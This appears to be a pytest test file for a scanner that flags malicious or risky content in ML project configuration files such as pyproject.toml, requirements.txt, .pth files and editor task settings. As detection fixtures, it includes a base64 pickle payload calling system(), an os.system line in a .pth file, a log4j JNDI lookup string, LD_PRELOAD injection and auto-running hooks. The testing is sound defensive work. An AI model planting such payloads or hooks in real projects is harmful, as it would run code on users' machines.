"""TOML, settings in lines, lists of packages, path files, commands of tools."""

from __future__ import annotations

import base64
import configparser
import io
import json
import random
import tomllib
from typing import TYPE_CHECKING

import pytest

from build import pickles as p
from build.inspecting import inspected, rules_of, scanned
from weighbridge.core.facts import FileReference, Setting
from weighbridge.core.findings import Severity, Verdict
from weighbridge.formats.config.requirements import NAME, requirement_facts
from weighbridge.formats.python.started import started_by

if TYPE_CHECKING:
    from pathlib import Path

EVIL = base64.b64encode(p.proto(4) + p.system() + p.STOP).decode()
PROJECT = """# a comment
[build-system]
requires = ["hatchling>=1.20"]
build-backend = "hatchling.build"

[project]
name = "model"
version = "1.0"
dependencies = ["torch>=2.1", "transformers[torch]>=4.40,<5; python_version >= '3.9'"]
dated = 2026-11-29T10:00:00Z

[tool.ruff]
line-length = 120

[[steps]]
rate = 1e-4
"""
SETUP = """[metadata]
name = model
description = a model
  of two lines

[options]
install_requires =
    torch>=2
    numpy
"""
HONEST = {
    "pyproject.toml": PROJECT,
    "config.toml": "[model]\nsize = 8\n_target_ = 'torch.nn.Linear'\n",
    "setup.cfg": SETUP,
    "yolo.cfg": "[net]\nbatch=64\n# a comment\n[convolutional]\nfilters=32\n",
    "logging.conf": "[loggers]\nkeys = root\n; more\nformat: %(message)s\n",
    "tox.ini": "[tox]\nenvlist = py311\n[testenv]\ndeps = pytest\ncommands = pytest {posargs}\n",
    "config.properties": "inference_address=http://127.0.0.1:8080\nload_models=all\n! a comment\n",
    ".env": "export CUDA_VISIBLE_DEVICES=0\nSEED=42\n",
    ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = https://github.com/a/b\n',
    "requirements.txt": "torch==2.1.0\nnumpy>=1.24,<2 # c\n\n-r base.txt\npackage[extra]~=1.0 ; python_version < '3.12'\n",
    "requirements-dev.txt": "pytest\n# a comment\nblack==24.1.0 \\\n    --hash=sha256:" + "0" * 64 + "\n",
    "constraints.txt": "numpy<2\n",
}


@pytest.mark.parametrize("name", HONEST)
def test_honest_settings_are_clean(tmp_path: Path, name: str) -> None:
    report = scanned(tmp_path, name, HONEST[name].encode())
    assert report.verdict is Verdict.CLEAN, report.unread
    assert not [one for one in report.findings if one.severity.rank >= Severity.MEDIUM.rank]
    assert report.artifact.files[0].format in ("toml", "settings", "requirements")


@pytest.mark.parametrize("name", HONEST)
def test_an_object_inside_is_found_and_followed(tmp_path: Path, name: str) -> None:
    quoted = f'"{EVIL}"' if name.endswith(".toml") else EVIL
    for line in (f"hidden = {quoted}", f"# {EVIL}"):
        raw = f"{HONEST[name]}\n{line}\n".encode()
        assert scanned(tmp_path, name, raw).verdict is Verdict.MALICIOUS, line


def test_a_key_or_a_section_can_hide_it_too(tmp_path: Path) -> None:
    for name, text in (("a.toml", f'"{EVIL}" = 1'), ("a.ini", f"[{EVIL}]\na=1"), ("b.ini", f"{EVIL.rstrip('=')}=1")):
        assert scanned(tmp_path, name, text.encode()).verdict is Verdict.MALICIOUS, name


FOUND = {
    ("pyproject.toml", '[project]\ndependencies = ["x @ git+https://example.invalid/x"]'): ("config/package-source", "medium"),
    ("pyproject.toml", '[project]\ndependencies = ["x @ http://example.invalid/x.whl"]'): ("config/package-source", "high"),
    ("pyproject.toml", '[tool.poetry.dependencies]\nx = {git = "https://example.invalid/x"}'): ("config/package-source", "medium"),
    ("pyproject.toml", '[[tool.uv.index]]\nurl = "https://example.invalid/simple"'): ("config/package-source", "medium"),
    ("pyproject.toml", '[build-system]\nbuild-backend = "mine"\nbackend-path = ["."]'): ("config/entry-point", "medium"),
    ("pyproject.toml", '[project.scripts]\nls = "a:b"'): ("config/entry-point", "low"),
    ("pyproject.toml", '[project.entry-points.pytest11]\nx = "a"'): ("config/entry-point", "medium"),
    ("a.toml", '_target_ = "os.system"'): ("config/unsafe-target", "critical"),
    ("a.toml", '[auto_map]\nAutoModel = "org/repo--x.Net"'): ("config/remote-code", "high"),
    ("a.toml", '[env]\nLD_PRELOAD = "/tmp/x.so"'): ("config/risky-setting", "medium"),
    ("setup.cfg", "[options.entry_points]\nconsole_scripts =\n    x = a:b\n"): ("config/entry-point", "low"),
    ("setup.cfg", "[options]\ninstall_requires =\n    x @ https://example.invalid/x.whl\n"): ("config/package-source", "medium"),
    ("pip.conf", "[global]\nindex-url = https://example.invalid/simple\n"): ("config/package-source", "medium"),
    (".env", "LD_PRELOAD=/tmp/x.so\n"): ("config/risky-setting", "medium"),
    (".gitmodules", '[submodule "x"]\n\tupdate = !touch x\n'): ("config/risky-setting", "high"),
    ("config", "[core]\n\tfsmonitor = ./x.sh\n"): ("config/risky-setting", "high"),
    ("config.properties", "disable_token_authorization=true\n"): ("config/risky-setting", "medium"),
    ("log4j.properties", "a=${jndi:ldap://example.invalid/x}\n"): ("config/lookup", "high"),
    ("a.ini", "a = \u202ex\n"): ("code/marks", "high"),
    ("a.toml", "a = 1 # \u202e"): ("code/marks", "high"),
    ("requirements.txt", "git+https://github.com/a/b@main"): ("config/package-source", "medium"),
    ("requirements.txt", "a @ git+https://github.com/a/b@" + "0" * 40): ("config/package-source", "low"),
    ("requirements.txt", "--extra-index-url https://download.pytorch.org/whl/cu121"): ("config/package-source", "low"),
    ("requirements.txt", "-ihttps://example.invalid/simple"): ("config/package-source", "medium"),
    ("requirements.txt", "--index-url=http://example.invalid"): ("config/package-source", "high"),
    ("requirements.txt", "--trusted-host example.invalid"): ("config/package-source", "medium"),
    ("requirements.txt", "-r https://example.invalid/x.txt"): ("config/package-source", "high"),
    ("requirements.txt", "-e ."): ("config/package-source", "low"),
    ("requirements.txt", "./x.whl"): ("config/package-source", "low"),
    ("requirements.txt", "a b c"): ("config/requirement-line", "low"),
    ("x.pth", "import os; os.system('id')\n"): ("code/process", "critical"),
    ("y.pth", "import harmless\n"): ("code/runs-by-name", "high"),
    ("z.pth", "../lib\n# a comment\n"): ("code/site-path", "medium"),
    ("tasks.json", json.dumps({"tasks": [{"command": "x", "runOptions": {"runOn": "folderOpen"}}]})): ("config/tool-command", "high"),
    ("tasks.json", json.dumps({"tasks": [{"command": "make", "args": ["all"]}]})): ("config/tool-command", "medium"),
    ("devcontainer.json", '{"postCreateCommand": "pip install ."}'): ("config/tool-command", "medium"),
    ("devcontainer.json", '{"initializeCommand": ["sh", "x.sh"]}'): ("config/tool-command", "high"),
    ("package.json", '{"scripts": {"postinstall": "node x.js"}}'): ("config/tool-command", "high"),
    ("kernel.json", '{"argv": ["/tmp/x", "{connection_file}"], "display_name": "Python 3"}'): ("config/tool-command", "high"),
    ("mcp.json", '{"mcpServers": {"x": {"command": "sh", "args": ["x.sh"]}}}'): ("config/tool-command", "high"),
    ("settings.json", '{"hooks": {"a": [{"hooks": [{"type": "command", "command": "x"}]}]}}'): ("config/tool-command", "high"),
    ("settings.json", '{"python.defaultInterpreterPath": "./x/python"}'): ("config/tool-command", "medium"),
    ("sitecustomize.py", "x = 1\n"): ("code/runs-by-name", "medium"),
    ("jupyter_notebook_config.py", "x = 1\n"): ("code/runs-by-name", "medium"),
}  # fmt: skip


@pytest.mark.parametrize(
    ("file", "expected"), FOUND.items(), ids=[f"{name}-{index}" for index, (name, _) in enumerate(FOUND)]
)
def test_what_tools_act_upon_is_a_finding(tmp_path: Path, file: tuple[str, str], expected: tuple[str, str]) -> None:
    report = scanned(tmp_path, file[0], file[1].encode())
    assert expected in {(one.rule, one.severity.value) for one in report.findings}, report.findings
    high = {"low": False, "medium": False}.get(expected[1], True)
    assert (report.verdict in (Verdict.SUSPICIOUS, Verdict.MALICIOUS)) == high


BROKEN = {
    "a.toml": [
        b"hello: world\n",
        b"a = ",
        b"a = 1\na = 2",
        b"a = " + b"[" * 100_000,
        b"a = '\xff'",
        b"a" + b".a" * 3000 + b" = 1",
    ],
    "b.toml": [b"a = " + b"9" * 10_000, b"a = [" + b"{}," * 100_001 + b"]"],
    "a.ini": [b"a = \xff\xfe", b"\0a = 1"],
    "requirements.txt": [b"\xff\xff", b"a\0b"],
    "x.pth": [b"import os;" + b"f(x);" * 9000, b"import (", b"\x80\x02", b"\0" * 70_000],
}


@pytest.mark.parametrize(("name", "content"), [(name, one) for name, all_ in BROKEN.items() for one in all_])
def test_what_is_broken_is_never_clean(tmp_path: Path, name: str, content: bytes) -> None:
    report = scanned(tmp_path, name, content)
    assert report.verdict in (Verdict.INCOMPLETE, Verdict.SUSPICIOUS)
    assert report.unread
    assert not any("parser failed" in one.why for one in report.unread)


def test_values_are_those_of_configparser(tmp_path: Path) -> None:
    for name in ("setup.cfg", "yolo.cfg", "tox.ini", "logging.conf"):
        scanned(tmp_path, name, HONEST[name].encode())
        facts = [fact for blob in inspected(tmp_path / name).facts.blobs for fact in blob.facts]
        parser = configparser.RawConfigParser(inline_comment_prefixes=None)
        parser.read_file(io.StringIO(HONEST[name]))
        expected = {
            f"{section}.{key}": value for section in parser.sections() for key, value in parser[section].items()
        }
        assert {fact.key: fact.value for fact in facts if isinstance(fact, Setting)} == expected


def test_values_are_those_of_the_tables(tmp_path: Path) -> None:
    scanned(tmp_path, "p.toml", PROJECT.encode())
    facts = [fact for blob in inspected(tmp_path / "p.toml").facts.blobs for fact in blob.facts]
    assert ("project.name", tomllib.loads(PROJECT)["project"]["name"]) in [
        (fact.key, fact.value) for fact in facts if isinstance(fact, Setting)
    ]


@pytest.mark.parametrize(
    "line",
    ["torch", "torch==2.0", "a.b-c_d[x,y]>=1, !=2 ; os_name == 'nt'", "a===1", "a (>=1)", "--no-binary :all:", "--pre"],
)
def test_ordinary_requirements_say_nothing(line: str) -> None:
    assert not list(requirement_facts(line, "line 1", 0))


def test_the_place_of_a_requirement_is_its_line(tmp_path: Path) -> None:
    raw = "\u00fc==1\ntorch \\\n  ==2\n./x.whl\n".encode()
    scanned(tmp_path, "requirements.txt", raw)
    facts = [fact for blob in inspected(tmp_path / "requirements.txt").facts.blobs for fact in blob.facts]
    assert FileReference("requirement-file", "./x.whl", "line 4", raw.index(b"./x")) in facts


@pytest.mark.parametrize(
    "name", ["requirements.txt", "requirements-gpu.txt", "dev-requirements.txt", "requirements.in", "constraints_a.txt"]
)
def test_lists_are_known_by_their_names(name: str) -> None:
    assert NAME.fullmatch(name)


def test_other_texts_are_no_lists() -> None:
    assert not NAME.fullmatch("vocab.txt")
    assert not NAME.fullmatch("requirement_notes.md")


STARTED = [
    "sitecustomize.py", "a/b/conftest.py", "x.zip!a/setup.py", ".git/hooks/post-checkout", ".ipython/profile_default/startup/00-x.py",
    ".vscode/tasks.json", ".devcontainer/devcontainer.json", ".github/workflows/x.yml", ".claude/settings.json", ".mcp.json",
    ".envrc", "jupyter_server_config.json", ".husky/pre-commit", ".bashrc",
]  # fmt: skip


@pytest.mark.parametrize("place", STARTED)
def test_what_runs_by_its_place_is_known(place: str) -> None:
    assert started_by(place)


@pytest.mark.parametrize(
    "place", ["model.py", "hooks/readme", "pre-commit", "tasks.json", "a/startup/x.py", "x.py!setup", "config.json"]
)
def test_what_does_not_is_not(place: str) -> None:
    assert not started_by(place)


def test_a_place_in_an_archive_counts(tmp_path: Path) -> None:
    folder = tmp_path / ".vscode"
    folder.mkdir()
    (folder / "tasks.json").write_text('{"version": "2.0.0"}')
    assert "code/runs-by-name" in rules_of(inspected(tmp_path).report)


def test_weights_are_no_path_file(tmp_path: Path) -> None:
    assert scanned(tmp_path, "m.pth", p.proto(4) + b"}.").artifact.files[0].format == "pickle"


def test_changes_never_crash(tmp_path: Path) -> None:
    source = random.Random(3)
    for name, text in HONEST.items():
        for _ in range(25):
            changed = bytearray(text.encode())
            for _ in range(4):
                changed[source.randrange(len(changed))] = source.randrange(256)
            report = scanned(tmp_path, name, bytes(changed))
            assert not any("parser failed" in one.why for one in report.unread), (name, bytes(changed))
